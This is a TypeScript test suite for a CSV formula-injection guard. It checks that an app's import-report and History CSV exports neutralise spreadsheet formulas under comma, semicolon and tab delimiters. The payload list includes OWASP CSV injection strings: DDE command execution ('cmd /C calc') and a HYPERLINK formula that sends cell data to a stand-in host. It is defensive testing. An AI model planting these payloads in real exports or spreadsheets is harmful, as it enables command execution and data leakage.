import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { importReportCsv, type ImportReport } from '../../../src/shared/import/report'
import { csvCell, csvDocument, guardFormula } from '../../../src/shared/journal/csv-cells'
import { historyExport } from '../../../src/main/journal/history-export'
import type { HistoryRow } from '../../../src/shared/contract/history'

/** OWASP "CSV Injection" payloads, and the same formulas hidden behind a separator inside the cell. */
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '+1+1',
  '-1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '\t=1+2',
  '\r=1+2',
  'a;=1+2',
  'a,=1+2',
  '"=1+2"',
  'a\t=1+2',
  'a; =1+2',
  'a;"=1+2',
  'two\nlines\n=1+2',
  'x;@SUM(1)'
]

/** What a spreadsheet evaluates: a cell that starts, after any spaces and quotes, with = + - @ (or tab/CR). */
const looksLikeFormula = (cell: string) => /^[ "]*[=+\-@\t\r]/.test(cell)

/**
 * The cells a spreadsheet sees when it opens the file with `delimiter`: Excel uses "," in English and ";"
 * where the decimal mark is a comma (de, fr, nl); tab comes from copy-paste. It honours a quote only where
 * it opens a cell, as papaparse does. A reader splitting on ";" or tab cannot rely on our quotes at all
 * (they open cells of the "," reading), so it is also read quote-unaware, line breaks included.
 */
function cellsAsRead(document: string, delimiter: string): string[] {
  const quoteAware = Papa.parse<string[]>(document, { delimiter, newline: '\r\n' }).data.flat()
  if (delimiter === ',') return quoteAware
  const naive = document.split(/\r\n|\r|\n/).flatMap((line) => line.split(delimiter))
  return [...quoteAware, ...naive]
}

describe('CSV formula guard', () => {
  it.each(PAYLOADS)('no reader, with any delimiter, sees a formula in %j', (payload) => {
    // Alone, after another cell, and before one: the payload is never at a fixed place in a row.
    const document = csvDocument([[payload], ['x', payload, 'y']])
    for (const delimiter of [',', ';', '\t']) {
      const formulas = cellsAsRead(document, delimiter).filter(looksLikeFormula)
      expect(formulas, `read with ${JSON.stringify(delimiter)}`).toEqual([])
    }
  })

  it.each(PAYLOADS)('reads %j back with "," as exactly the guarded text', (payload) => {
    const parsed = Papa.parse<string[]>(csvDocument([['x', payload, 'y']]), { newline: '\r\n' })
    expect(parsed.errors).toEqual([])
    expect(parsed.data[0]).toEqual(['x', guardFormula(payload), 'y'])
  })

  it('quotes a cell holding ";" or a tab, and guards each part that a ";" or tab starts', () => {
    expect(csvCell('x;=1+2')).toBe(`"x;'=1+2"`)
    expect(csvCell('x;y')).toBe('"x;y"')
    expect(csvCell('x\t-1')).toBe(`"x\t'-1"`)
    expect(csvCell('=1;+2')).toBe(`"'=1;'+2"`)
    expect(csvCell('a; =1+2')).toBe(`"a;' =1+2"`)
    expect(csvCell('\t=1+2')).toBe(`"'\t'=1+2"`)
    expect(guardFormula('first\n=second')).toBe("first\n'=second")
    expect(guardFormula('x; y; z')).toBe('x; y; z')
    expect(guardFormula('a=b;c-d')).toBe('a=b;c-d')
  })

  it('guards the import report and the History export with the same rule', () => {
    const report: ImportReport = {
      file: 'backlog.csv',
      environment: 'local',
      summary: {
        orders: 1,
        created: 0,
        opted_out: 0,
        already_submitted: 0,
        invalid: 1,
        rejected: 0,
        failed: 0,
        in_doubt: 0,
        being_sent_elsewhere: 0
      },
      orders: [
        {
          order_number: 'A;=1+2',
          rows: [2],
          outcome: 'invalid',
          errors: [{ row: 2, column: null, message: 'x;@SUM(1)' }],
          status: null,
          sent_by_run: null,
          policies: []
        }
      ]
    }
    const reportCells = Papa.parse<string[]>(importReportCsv(report), { newline: '\r\n' }).data[1]
    expect(reportCells[0]).toBe("A;'=1+2")
    expect(reportCells[4]).toBe("Row 2: x;'@SUM(1)")

    const row: HistoryRow = {
      environment: 'local',
      orderNumber: 'B;=1+2',
      outcome: 'rejected',
      source: 'form',
      currency: 'USD',
      customerName: 'Jo\t+1',
      customerEmail: null,
      teakOrderId: null,
      itemReferences: ['R-1', '=2+3'],
      policies: [],
      lastError: null,
      firstSeenAt: '2027-03-01T10:20:30.000Z',
      lastActivityAt: '2027-03-01T10:20:30.000Z'
    }
    const history = historyExport([row], 'csv', new Date('2027-03-01T10:20:30Z')).content.slice(1)
    const historyCells = Papa.parse<string[]>(history, { newline: '\r\n' }).data[1]
    expect(historyCells.slice(0, 8)).toEqual([
      'local',
      "B;'=1+2",
      'rejected',
      'form',
      'USD',
      "Jo\t'+1",
      '',
      "R-1;' =2+3"
    ])
  })
})
